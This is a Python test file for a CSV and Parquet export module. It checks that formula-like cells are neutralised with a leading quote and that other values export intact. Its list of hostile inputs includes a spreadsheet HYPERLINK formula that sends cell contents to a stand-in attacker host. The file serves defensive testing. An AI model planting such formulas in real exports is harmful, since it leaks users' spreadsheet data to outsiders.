"""What is kept of an answer: a CSV that runs nothing in a spreadsheet, and Parquet that is the answer itself."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import duckdb
import numpy as np
import pandas as pd
import pytest

from sluice.dashboard.view import export

CRUEL = (
    *("=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1", " =1+1", "\xa0@x", "＝1+1"),
    *("\u3000=1", "\u2003\u200b+1", "\u202e-1", "\ufeff@x", "\xad=1", "\x00 ＠x", "\u2028﹢1", "\x0b=1"),
    """=HYPERLINK("https://evil.example?"&A1,"click")""",
)
HARMLESS = ("/pricing", "1=1", "a-b", "<b>=1</b>", "", "été", "'=1", 'say "hi", twice\nover')


def cells(**columns: list[Any]) -> list[list[str]]:
    text = export.as_csv(pd.DataFrame(columns)).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", CRUEL)
def test_a_text_like_a_formula_is_led_by_a_quote(text: str) -> None:
    assert cells(page=[text])[1] == [f"'{text}"]


@pytest.mark.parametrize("text", CRUEL)
def test_a_column_named_like_a_formula_is_led_by_a_quote(text: str) -> None:
    assert cells(**{text: [1]})[0] == [f"'{text}"]


@pytest.mark.parametrize("text", HARMLESS)
def test_any_other_text_stays_as_it_is(text: str) -> None:
    assert cells(page=[text, "x"])[1:] == [[text], ["x"]]


def test_every_field_is_in_quotes() -> None:
    text = export.as_csv(pd.DataFrame({"page;x": ["/a;b", None], "n": [1, -2]})).decode("utf-8-sig")
    assert text == '"page;x","n"\r\n"/a;b","1"\r\n"","-2"\r\n'


def test_a_number_below_zero_stays_a_number() -> None:
    assert cells(n=[-5], share=[-0.5])[1] == ["-5", "-0.5"]


def test_null_is_an_empty_cell() -> None:
    frame = {"n": pd.array([1, None], dtype="Int64"), "x": [None, 1.5], "text": ["a", None]}
    assert cells(**frame)[1:] == [["1", "", "a"], ["", "1.5", ""]]


def test_a_list_and_a_struct_are_json_in_a_cell() -> None:
    steps = [np.array(["=a", "b"])]
    assert cells(steps=steps, place=[{"city": "Linköping"}], odd=[[1, 2]])[1] == [
        '["=a","b"]',
        '{"city":"Linköping"}',
        "[1,2]",
    ]


def test_a_time_is_written_as_in_the_records() -> None:
    moment = "2026-11-09T10:00:05.250Z"
    with_zone, without = pd.to_datetime([moment]), pd.to_datetime([moment.removesuffix("Z")])
    assert cells(started=with_zone, ended=without)[1] == [moment, moment]


def test_the_csv_has_the_mark_by_which_excel_knows_utf_8() -> None:
    assert export.as_csv(pd.DataFrame({"page": ["été"]})).startswith(b"\xef\xbb\xbf")


def test_an_answer_without_rows_keeps_its_columns() -> None:
    assert cells(page=[], n=[]) == [["page", "n"]]


def test_parquet_holds_the_answer_as_it_is(tmp_path: Path) -> None:
    frame = pd.DataFrame({"page": ["=1+1", None], "n": pd.array([1, None], dtype="Int64"), "steps": [["a"], None]})
    (tmp_path / "kept.parquet").write_bytes(export.as_parquet(frame))
    kept = duckdb.read_parquet(str(tmp_path / "kept.parquet")).fetchall()
    assert kept == [("=1+1", 1, ["a"]), (None, None, None)]
